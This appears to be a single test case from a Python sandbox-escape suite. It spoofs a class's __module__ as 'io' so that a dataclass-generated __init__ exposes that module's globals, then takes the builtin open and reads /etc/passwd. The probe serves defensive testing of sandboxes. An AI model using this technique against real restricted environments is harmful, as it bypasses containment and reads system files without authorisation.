# tries: generated methods get the globals of the module that a class claims
# class: dataclass
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import dataclasses


class C:
    __module__ = "io"
    x: int = 0


dataclasses.dataclass(C)
use(C.__init__.__globals__["open"])
